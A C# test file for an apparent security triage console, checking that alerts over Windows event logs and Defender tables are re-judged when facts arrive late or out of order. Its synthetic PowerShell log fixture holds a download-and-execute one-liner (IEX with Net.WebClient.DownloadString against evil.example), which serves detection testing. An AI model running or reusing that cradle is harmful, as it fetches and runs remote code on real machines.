using System.Text;
using System.Text.Json;
using TriageConsole.Testing.Demo;
using TriageConsole.Testing.Demo.Layouts;
using Xunit;

namespace TriageConsole.Web.Tests.Pipeline;

/// <summary>What comes late, in another file or the wrong way round, completes what is stored, and what rests on it is judged again.</summary>
public sealed class LateFactTests
{
    private const DemoAuditing Auditing = DemoAuditing.Sysmon | DemoAuditing.Modules | DemoAuditing.Files | DemoAuditing.Access;
    private const string Payload = "nimbusupd.exe";

    private static readonly IReadOnlyList<DemoRecord> _records = SmallCaptures.DownloadedScript(new(2026, 11, 18, 9, 30, 0, DateTimeKind.Utc), 0x5c071002, Auditing);

    public static TheoryData<Engine> Engines => [Engine.Sqlite, Engine.Postgres];

    [Theory]
    [InlineData(Engine.Sqlite, 7, "child-unsigned")]
    [InlineData(Engine.Sqlite, 11, "child-written-by-chain")]
    [InlineData(Engine.Postgres, 7, "child-unsigned")]
    [InlineData(Engine.Postgres, 11, "child-written-by-chain")]
    public async Task Import_FactsAfterTheirProcesses_JudgeTheAlertAgain(Engine engine, int eventId, string signal)
    {
        await using var run = await PipelineRun.OfAsync(engine, Evtx(_records.Where(r => r.EventId != eventId)));
        Assert.Single((await run.PictureAsync()).Alerts);
        Assert.DoesNotContain(signal, await run.SignalsAsync());

        await run.ImportAsync(Evtx(_records.Where(r => r.EventId == eventId)));

        Assert.Contains(signal, await run.SignalsAsync());
        (await run.PictureAsync()).AssertIs(await WholeAsync(engine));
    }

    [Theory]
    [MemberData(nameof(Engines))]
    public async Task Import_FactsBeforeTheirProcesses_WaitForThem(Engine engine)
    {
        await using var run = await PipelineRun.OfAsync(engine, Evtx(_records.Where(static r => r.EventId != 1)));
        Assert.Empty((await run.PictureAsync()).Alerts);

        await run.ImportAsync(Evtx(_records.Where(static r => r.EventId == 1)));

        (await run.PictureAsync()).AssertIs(await WholeAsync(engine));
    }

    [Theory]
    [MemberData(nameof(Engines))]
    public async Task Import_RecordsBackwards_GiveTheSame(Engine engine)
    {
        await using var run = await PipelineRun.OfAsync(engine, DemoLayouts.Write(DemoLayout.EventXml, _records.Reverse()));

        (await run.PictureAsync()).AssertIs(await WholeAsync(engine));
    }

    [Theory]
    [MemberData(nameof(Engines))]
    public async Task Import_ParentAfterItsChildren_MovesTheAlertOnIt(Engine engine)
    {
        await using var run = await PipelineRun.OfAsync(engine, Evtx(_records.Where(static r => r.Process.Program.OriginalName != "WSCRIPT.EXE")));
        var before = Assert.Single((await run.PictureAsync()).Alerts);
        Assert.DoesNotContain("explorer.exe", before, StringComparison.Ordinal);

        await run.ImportAsync(Evtx(_records.Where(static r => r.Process.Program.OriginalName == "WSCRIPT.EXE")));

        Assert.Contains("explorer.exe", Assert.Single((await run.PictureAsync()).Alerts), StringComparison.Ordinal);
        (await run.PictureAsync()).AssertIs(await WholeAsync(engine));
    }

    [Theory]
    [MemberData(nameof(Engines))]
    public async Task Import_TerminationAfterItsProcess_IsItsEnd(Engine engine)
    {
        await using var run = await PipelineRun.OfAsync(engine, Evtx(_records.Where(static r => r.EventId != 5)));
        var before = await run.PictureAsync();
        Assert.All(before.Processes, static process => Assert.Contains(" end= ", process, StringComparison.Ordinal));

        await run.ImportAsync(Evtx(_records.Where(static r => r.EventId == 5)));

        var after = await run.PictureAsync();
        Assert.Contains(after.Processes, static process => !process.Contains(" end= ", StringComparison.Ordinal));
        after.AssertIs(await WholeAsync(engine));
    }

    // Security's log links by process id: an end that comes late says that the id was no longer the host's.
    [Theory]
    [MemberData(nameof(Engines))]
    public async Task Import_TerminationThatComesLate_TakesTheChildFromItsFalseParent(Engine engine)
    {
        var at = new DateTime(2026, 11, 18, 9, 30, 0, DateTimeKind.Utc);
        await using var run = await PipelineRun.OfAsync(
            engine,
            Xml(Started(at, 400, @"C:\Windows\System32\wscript.exe", @"wscript.exe //e:vbscript C:\Users\ada\Downloads\invoice.txt", 200, @"C:\Windows\explorer.exe"),
                Started(at.AddSeconds(100), 500, @"C:\Users\ada\AppData\Local\Temp\upd.exe", "upd.exe", 400, @"C:\Windows\System32\wscript.exe")));
        Assert.Contains("upd.exe", Assert.Single((await run.PictureAsync()).Alerts), StringComparison.Ordinal);

        await run.ImportAsync(Xml($"<EventID>4689</EventID>{Head(at.AddSeconds(50))}<Data Name='ProcessId'>0x190</Data><Data Name='ProcessName'>C:\\Windows\\System32\\wscript.exe</Data>"));

        var alerts = (await run.PictureAsync()).Alerts;
        Assert.Contains(alerts, static alert => alert.Contains("script-host", StringComparison.Ordinal) && !alert.Contains("upd.exe", StringComparison.Ordinal));
    }

    [Theory]
    [InlineData(Engine.Sqlite, 4104, true)]
    [InlineData(Engine.Sqlite, 4104, false)]
    [InlineData(Engine.Sqlite, 4103, true)]
    [InlineData(Engine.Postgres, 4104, true)]
    [InlineData(Engine.Postgres, 4103, false)]
    public async Task Import_ScriptOfAChainsPowerShell_JudgesTheAlertAgain(Engine engine, int eventId, bool late)
    {
        const string Signal = "content-script-block";
        var at = new DateTime(2026, 11, 18, 9, 30, 0, DateTimeKind.Utc);
        var chain = Xml(
            Started(at, 400, @"C:\Windows\System32\wscript.exe", @"wscript.exe //e:vbscript C:\Users\ada\Downloads\invoice.txt", 200, @"C:\Windows\explorer.exe"),
            Started(at.AddSeconds(2), 500, @"C:\Windows\System32\WindowsPowerShell\v1.0\powershell.exe", @"powershell.exe -File C:\Users\ada\Downloads\a.ps1", 400, @"C:\Windows\System32\wscript.exe"));
        var script = Script(at.AddSeconds(3), eventId, 500);
        await using var run = await PipelineRun.OfAsync(engine, late ? chain : script);
        Assert.DoesNotContain(Signal, await run.SignalsAsync());

        await run.ImportAsync(late ? script : chain);

        var once = await run.PictureAsync();
        Assert.Contains(Signal, Assert.Single(once.Alerts), StringComparison.Ordinal);
        await run.ImportAsync(script);
        (await run.PictureAsync()).AssertIs(once);
        Assert.Equal(1, once.Scripts);
    }

    // The id belonged to another process by then.
    [Fact]
    public async Task Import_ScriptOfAnotherProcessWithTheId_ChangesNothing()
    {
        var at = new DateTime(2026, 11, 18, 9, 30, 0, DateTimeKind.Utc);
        await using var run = await PipelineRun.OfAsync(Engine.Sqlite, Xml(
            Started(at, 400, @"C:\Windows\System32\wscript.exe", @"wscript.exe //e:vbscript C:\Users\ada\Downloads\invoice.txt", 200, @"C:\Windows\explorer.exe"),
            Started(at.AddSeconds(2), 500, @"C:\Windows\System32\WindowsPowerShell\v1.0\powershell.exe", @"powershell.exe -File C:\Users\ada\Downloads\a.ps1", 400, @"C:\Windows\System32\wscript.exe"),
            Started(at.AddSeconds(60), 500, @"C:\Windows\System32\WindowsPowerShell\v1.0\powershell.exe", "powershell.exe", 200, @"C:\Windows\explorer.exe")));
        var before = (await run.PictureAsync()).Alerts;

        await run.ImportAsync(Script(at.AddSeconds(61), 4104, 500));

        Assert.Equal(before, (await run.PictureAsync()).Alerts);
    }

    // Defender's tables are exported one by one, in whatever order, and name a process by its id and start.
    [Theory]
    [InlineData(Engine.Sqlite)]
    [InlineData(Engine.Postgres)]
    public async Task Import_DefenderFilesBeforeTheirProcesses_GiveTheSameAlert(Engine engine)
    {
        const string Written = @"C:\Users\ada\AppData\Local\Temp\upd.exe";
        const string Host = @"C:\Windows\System32\wscript.exe";
        var processes = Hunting(
            Device("ProcessCreated", 5, Host, 400, 5, @"wscript.exe C:\Users\ada\Downloads\invoice.js", 200, 1, @"C:\Windows\explorer.exe"),
            Device("ProcessCreated", 9, Written, 500, 9, "upd.exe", 400, 5, Host));
        var files = Hunting(Device("FileCreated", 7, Written, null, null, null, 400, 5, Host));
        await using var inOrder = await PipelineRun.OfAsync(engine, processes, files);
        await using var backwards = await PipelineRun.OfAsync(engine, files, processes);

        Assert.Contains("child-written-by-chain", await backwards.SignalsAsync());
        (await backwards.PictureAsync()).AssertIs(await inOrder.PictureAsync());
    }

    // A list names no process and no host: the alerts of every host that ran the file change.
    [Theory]
    [MemberData(nameof(Engines))]
    public async Task Import_SignatureListAfterTheAlert_JudgesItAgain(Engine engine)
    {
        var payload = _records.First(static r => r.Process.Program.Path.EndsWith(Payload, StringComparison.Ordinal)).Process.Program;
        await using var run = await PipelineRun.OfAsync(engine, Evtx(_records.Where(static r => r.EventId != 7)));
        Assert.DoesNotContain("child-unsigned", await run.SignalsAsync());

        await run.ImportAsync(Encoding.UTF8.GetBytes(
            "Path,Verified,Date,Publisher,Company,Description,Product,Product Version,File Version,Machine Type,MD5,SHA1,PESHA1,PESHA256,SHA256,IMP\r\n"
            + $"\"{payload.Path}\",\"Unsigned\",\"10:00 01.11.2026\",\"n/a\",\"n/a\",\"n/a\",\"n/a\",\"n/a\",\"n/a\",\"64-bit\",,,,,\"{payload.Sha256}\",\r\n"));

        Assert.Contains("child-unsigned", await run.SignalsAsync());
    }

    private static byte[] Hunting(params Dictionary<string, object?>[] rows) => Encoding.UTF8.GetBytes(string.Join('\n', rows.Select(static row => JsonSerializer.Serialize(row))));

    private static Dictionary<string, object?> Device(string action, int at, string path, int? pid, int? started, string? line, int parent, int parentStarted, string parentPath)
    {
        static string? Time(int? second) => second is { } s ? $"2026-11-18T09:30:{s:00}.0000000Z" : null;
        return new Dictionary<string, object?>
        {
            ["Timestamp"] = Time(at),
            ["DeviceName"] = "ws9.example.test",
            ["ActionType"] = action,
            ["FileName"] = path[(path.LastIndexOf('\\') + 1)..],
            ["FolderPath"] = path,
            ["ProcessId"] = pid,
            ["ProcessCreationTime"] = Time(started),
            ["ProcessCommandLine"] = line,
            ["InitiatingProcessId"] = parent,
            ["InitiatingProcessCreationTime"] = Time(parentStarted),
            ["InitiatingProcessFileName"] = parentPath[(parentPath.LastIndexOf('\\') + 1)..],
            ["InitiatingProcessFolderPath"] = parentPath,
        };
    }

    private static byte[] Evtx(IEnumerable<DemoRecord> records) => DemoLayouts.Write(DemoLayout.Evtx, records);

    private static async Task<Picture> WholeAsync(Engine engine)
    {
        await using var run = await PipelineRun.OfAsync(engine, Evtx(_records));
        return await run.PictureAsync();
    }

    private static byte[] Script(DateTime at, int eventId, int pid)
    {
        const string Text = "IEX (New-Object Net.WebClient).DownloadString('http://evil.example/a')";
        var data = eventId == 4104
            ? $"<Data Name='ScriptBlockId'>6f0f2c11-1111-4000-8001-000000000009</Data><Data Name='MessageNumber'>1</Data><Data Name='MessageTotal'>1</Data><Data Name='ScriptBlockText'>{Text}</Data>"
            : $"<Data Name='ContextInfo'>Host ID = 1</Data><Data Name='Payload'>CommandInvocation(Invoke-Expression): {Text}</Data>";
        return Encoding.UTF8.GetBytes(
            $"<Event><System><Provider Name='Microsoft-Windows-PowerShell'/><EventID>{eventId}</EventID><TimeCreated SystemTime='{at:yyyy-MM-ddTHH:mm:ss.fff}Z'/>"
            + $"<Execution ProcessID='{pid}'/><Channel>Microsoft-Windows-PowerShell/Operational</Channel><Computer>ws9.example.test</Computer></System><EventData>{data}</EventData></Event>");
    }

    private static string Started(DateTime at, int pid, string image, string line, int parent, string parentImage) =>
        $"<EventID>4688</EventID>{Head(at)}<Data Name='NewProcessId'>0x{pid:x}</Data><Data Name='NewProcessName'>{image}</Data><Data Name='CommandLine'>{line}</Data>"
        + $"<Data Name='ProcessId'>0x{parent:x}</Data><Data Name='ParentProcessName'>{parentImage}</Data>";

    private static string Head(DateTime at) =>
        $"<TimeCreated SystemTime='{at:yyyy-MM-ddTHH:mm:ss.fff}Z'/><Channel>Security</Channel><Computer>ws9.example.test</Computer></System><EventData>";

    private static byte[] Xml(params string[] events) => Encoding.UTF8.GetBytes(string.Join(
        '\n', events.Select(static e => $"<Event><System><Provider Name='Microsoft-Windows-Security-Auditing'/>{e}</EventData></Event>")));
}
